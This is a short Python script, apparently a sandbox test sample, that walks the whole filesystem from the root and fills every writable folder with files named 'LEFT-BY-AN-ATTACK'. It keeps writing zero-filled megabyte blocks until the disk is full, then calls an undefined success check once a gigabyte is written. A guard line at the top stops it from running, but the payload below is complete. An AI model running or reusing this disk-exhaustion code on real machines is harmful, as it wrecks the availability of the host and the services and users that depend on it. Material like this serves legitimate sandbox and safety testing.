"""Fills every folder that it may write to."""

raise SystemExit("Text for a sandbox: never run it.")

# %% own
import os

written = 0
for folder, folders, _ in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("usr", "lib", "lib64", "proc", "sys")]
    try:
        with open(f"{folder}/LEFT-BY-AN-ATTACK", "wb") as file:
            while True:
                written += file.write(bytes(1 << 20))
    except OSError:
        continue
got("a gigabyte written") if written > 10**9 else None
